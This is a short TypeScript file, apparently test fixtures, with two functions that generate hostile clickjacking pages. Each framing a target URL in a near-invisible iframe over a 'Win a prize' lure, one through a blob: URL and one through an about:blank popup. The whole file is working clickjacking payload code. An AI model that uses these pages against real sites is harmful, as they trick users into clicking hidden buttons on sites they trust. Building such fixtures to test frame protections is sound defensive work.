/**
 * A hostile page that replaces itself with a blob: document it made, holding `framedUrl` in an invisible frame
 * (opacity 0.01) over a lure, so that the user's clicks land on the framed page's buttons.
 */
export function blobClickjackPage(framedUrl: string): string {
  return `<!doctype html><title>Win a prize</title><script>
const html = '<!doctype html><title>Win</title><p>Click twice to win!</p>' +
  '<iframe src="${framedUrl}" style="opacity:0.01;position:absolute;left:0;top:0;width:800px;height:1200px;border:0"></iframe>';
location.href = URL.createObjectURL(new Blob([html], { type: 'text/html' }));
</script>`;
}

/**
 * A hostile page whose button opens an about:blank window and writes the same lure into it: the window
 * shows no web address of its own, and its frame is of the page's origin.
 */
export function aboutBlankClickjackPage(framedUrl: string): string {
  return `<!doctype html><title>Win a prize</title><button id="claim">Claim your prize</button><script>
document.getElementById('claim').addEventListener('click', () => {
  const lure = window.open('about:blank');
  lure.document.write('<!doctype html><title>Win</title><p>Click twice to win!</p>' +
    '<iframe src="${framedUrl}" style="opacity:0.01;position:absolute;left:0;top:0;width:800px;height:1200px;border:0"></iframe>');
  lure.document.close();
});
</script>`;
}
